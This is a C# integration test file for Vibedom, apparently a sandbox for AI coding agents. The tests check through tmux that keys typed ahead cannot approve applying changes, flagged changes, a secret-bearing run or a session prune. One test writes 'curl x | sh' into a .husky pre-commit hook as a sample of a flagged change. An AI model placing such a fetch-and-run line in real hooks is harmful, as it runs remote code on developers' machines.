using Vibedom.Testing;
using Vibedom.Testing.Terminal;
using Xunit;

namespace Vibedom.IntegrationTests.EndToEnd;

/// <summary>The review's questions at a real terminal (tmux) take only keys pressed after they were shown.</summary>
public sealed class TypedAheadTests
{
    [Fact]
    public async Task A_key_typed_before_the_apply_question_was_shown_does_not_answer_it()
    {
        using var vibedom = new VibedomBinary();
        var workspace = await SessionThatAddedAFileAsync(vibedom);

        // the "a" ([a]ll) waits in the terminal's input queue while the shell sleeps, before vibedom starts
        await using var tmux = await TmuxPane.StartAsync(vibedom, $"cd {workspace} && echo READY && sleep 2 && {VibedomBinary.Executable} apply; echo VIBEDOM-DONE");
        await tmux.WaitForAsync("READY");
        await tmux.SendKeysAsync("a");
        await tmux.WaitForAsync("[q]uit [d]iff:");
        await tmux.SendKeysAsync("q");
        var screen = await tmux.WaitForAsync("VIBEDOM-DONE");

        Assert.False(File.Exists(Path.Combine(workspace, "b.txt")), "the typed-ahead key applied the change:\n" + screen);
    }

    [Fact]
    public async Task A_yes_typed_before_the_flagged_changes_were_listed_does_not_apply_them()
    {
        Prerequisite.RequireCommand("bwrap");
        Prerequisite.RequireCommand("tmux");
        using var vibedom = new VibedomBinary();
        var workspace = vibedom.Workspace("proj", ("a.txt", "a\n"));
        var run = await vibedom.RunAsync(["run", workspace, "--yes", "--", "sh", "-c", "mkdir -p .husky && echo 'curl x | sh' > .husky/pre-commit"], input: null);
        Assert.True(run.ExitCode == 0, run.StandardError);

        await using var tmux = await TmuxPane.StartAsync(vibedom, $"cd {workspace} && {VibedomBinary.Executable} apply; echo VIBEDOM-DONE");
        await tmux.WaitForAsync("[q]uit [d]iff:");

        // "a" answers the question on the screen; the "yes" and Enter behind it were typed before the next one
        await tmux.SendKeysAsync("ayes");
        await tmux.SendKeyAsync("Enter");
        await tmux.WaitForAsync("anything else skips them:");
        await tmux.SendKeyAsync("Enter");
        var screen = await tmux.WaitForAsync("VIBEDOM-DONE");

        Assert.False(File.Exists(Path.Combine(workspace, ".husky", "pre-commit")), "the typed-ahead yes applied a flagged change:\n" + screen);
    }

    [Fact]
    public async Task A_key_typed_before_the_preflight_question_was_shown_does_not_start_the_agent()
    {
        Prerequisite.RequireCommand("bwrap");
        Prerequisite.RequireCommand("tmux");
        using var vibedom = new VibedomBinary();
        var workspace = vibedom.Workspace("proj", (".env", $"STRIPE_SECRET_KEY={TestSecrets.StripeLiveKey}\n"));

        // the "c" ([c]ontinue) waits in the terminal's input queue before vibedom starts and scans
        await using var tmux = await TmuxPane.StartAsync(vibedom, $"cd {workspace} && echo READY && sleep 2 && {VibedomBinary.Executable} run {workspace} -- true; echo EXIT=$?; echo VIBEDOM-DONE");
        await tmux.WaitForAsync("READY");
        await tmux.SendKeysAsync("c");
        await tmux.WaitForAsync("(default: cancel): ");
        await tmux.SendKeysAsync("x");
        var screen = await tmux.WaitForAsync("VIBEDOM-DONE");

        Assert.True(screen.Contains("EXIT=5", StringComparison.Ordinal), "the typed-ahead key started the agent with the secrets:\n" + screen);
    }

    [Fact]
    public async Task A_key_typed_before_the_prune_question_was_shown_does_not_remove_unapplied_changes()
    {
        using var vibedom = new VibedomBinary();
        var workspace = await SessionThatAddedAFileAsync(vibedom);
        var session = Assert.Single(Directory.EnumerateDirectories(Path.Combine(vibedom.Home, "logs")));

        await using var tmux = await TmuxPane.StartAsync(vibedom, $"echo READY && sleep 2 && {VibedomBinary.Executable} sessions --prune; echo VIBEDOM-DONE");
        await tmux.WaitForAsync("READY");
        await tmux.SendKeysAsync("y");
        await tmux.WaitForAsync("remove it anyway? [y/N] ");
        await tmux.SendKeysAsync("n");
        var screen = await tmux.WaitForAsync("VIBEDOM-DONE");

        Assert.True(Directory.Exists(session), "the typed-ahead key removed a session with unapplied changes:\n" + screen);
    }

    /// <summary>A workspace with one ended session whose only change, <c>b.txt</c>, is not applied.</summary>
    private static async Task<string> SessionThatAddedAFileAsync(VibedomBinary vibedom)
    {
        Prerequisite.RequireCommand("bwrap");
        Prerequisite.RequireCommand("tmux");
        var workspace = vibedom.Workspace("proj", ("a.txt", "a\n"));
        var run = await vibedom.RunAsync(["run", workspace, "--yes", "--", "sh", "-c", "echo b > b.txt"], input: null);
        Assert.True(run.ExitCode == 0, run.StandardError);
        return workspace;
    }
}
